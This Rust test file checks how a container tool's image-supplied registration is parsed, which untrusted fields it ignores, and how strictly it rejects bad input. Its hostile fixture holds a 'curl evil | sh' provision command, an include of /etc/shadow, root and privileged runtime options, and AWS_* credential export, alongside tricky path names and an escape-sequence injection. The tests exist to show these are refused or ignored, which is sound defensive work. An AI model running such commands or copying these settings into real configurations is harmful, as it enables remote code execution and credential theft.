//! The registration that an image brings along: what counts, what is asked for, what does not count.

use flake_schema::{FlakeFile, FlakeType, ImageRegistration, Network, Workdir};

fn parse(text: &str) -> Result<ImageRegistration, String> {
    ImageRegistration::parse(text.as_bytes(), "registration in IMAGE").map_err(|error| error.to_string())
}

const GREEDY: &str = "
engine: podman
type: mutable
hostsystem: [openssh]
include: {path: [/etc/shadow]}
provision: [{script: 'curl evil | sh'}]
container:
  name: other/image
  target-app-path: /usr/bin/tool
  host_app_path: /usr/bin/sudo/../tool
  base_container: ~
  layers: [a]
  runtime:
    runas: root
    resume: true
    network: private
    podman: [--privileged]
    share: [cwd, '/etc:ro']
    env: ['AWS_*']
    workdir: /srv
    user: caller
";

#[test]
fn little_counts() {
    let registration = parse(GREEDY).unwrap();
    assert_eq!(registration.name.as_ref().unwrap().as_str(), "tool");
    assert_eq!(registration.target.as_deref(), Some("/usr/bin/tool"));
    assert_eq!(registration.kind, Some(FlakeType::Mutable));
    assert_eq!((registration.resume, registration.attach), (Some(true), None));
    assert_eq!(registration.workdir, Some(Workdir::Path("/srv".into())));
    assert_eq!(registration.network, Some(Network::Private));
    assert_eq!(registration.share.iter().map(ToString::to_string).collect::<Vec<_>>(), ["cwd", "/etc:ro"]);
    assert_eq!(registration.env.iter().map(ToString::to_string).collect::<Vec<_>>(), ["AWS_*"]);
    assert_eq!(
        registration.ignored,
        [
            "engine",
            "hostsystem",
            "include.path",
            "provision",
            "container.name",
            "container.layers",
            "container.runtime.runas",
            "container.runtime.podman",
            "container.runtime.user",
        ]
    );
}

#[test]
fn what_counts_lies_below_the_command_line() {
    let registration = parse(GREEDY).unwrap();
    let accepted = registration.accepted().to_yaml().unwrap();
    assert_eq!(
        accepted,
        "type: mutable\ncontainer:\n  target_app_path: /usr/bin/tool\n  runtime:\n    resume: true\n    \
         network: private\n    workdir: /srv\n"
    );
    let mut file = registration.accepted();
    file.merge(registration.requested().unwrap());
    file.merge(FlakeFile::from_yaml("container: {runtime: {network: none, env: [LANG]}}", "cli").unwrap());
    let runtime = file.container.unwrap().runtime.unwrap();
    assert_eq!(runtime.network, Some(Network::None));
    assert_eq!((runtime.env.unwrap().len(), runtime.share.unwrap().len()), (1, 2));
}

#[test]
fn nothing_is_fine() {
    for text in ["", "# nothing\n", "container: {}\n"] {
        let registration = parse(text).unwrap();
        assert_eq!(registration, ImageRegistration::default());
        assert_eq!(registration.accepted(), FlakeFile::default());
        assert_eq!(registration.requested(), None);
    }
}

#[test]
fn the_hosts_network_is_not_the_images_choice() {
    let registration = parse("container: {runtime: {network: host}}").unwrap();
    assert_eq!(registration.network, None);
    assert_eq!(registration.ignored, ["container.runtime.network"]);
}

#[test]
fn odd_names_are_not_proposed() {
    for path in ["/usr/bin/..", "/usr/bin/", "/usr/bin/-rf", "/x/a b", "/x/\u{202e}a", "/x/a\\nb", "/x/é"] {
        let registration = parse(&format!("container: {{host_app_path: \"{path}\"}}")).unwrap();
        assert_eq!(registration.name, None, "{path}");
        assert_eq!(registration.ignored, ["container.host_app_path"]);
    }
}

#[test]
fn it_is_read_strictly() {
    let error = parse("container: {runtime: {resume: true, atach: true}}").unwrap_err();
    assert!(
        error.starts_with("registration in IMAGE:1:37: unknown key `atach` in `container.runtime`"),
        "{error}"
    );
    let error = parse("container: {runtime: {resume: true, attach: true}}").unwrap_err();
    assert!(error.starts_with("registration in IMAGE:1:37: `resume` and `attach` exclude"), "{error}");
    let error = parse(&"#\n".repeat(40_000)).unwrap_err();
    assert_eq!(error, "registration in IMAGE: larger than 64 KiB");
    let error = parse("container: \u{1b}[31m").unwrap_err();
    assert!(!error.contains('\u{1b}'), "{error:?}");
}
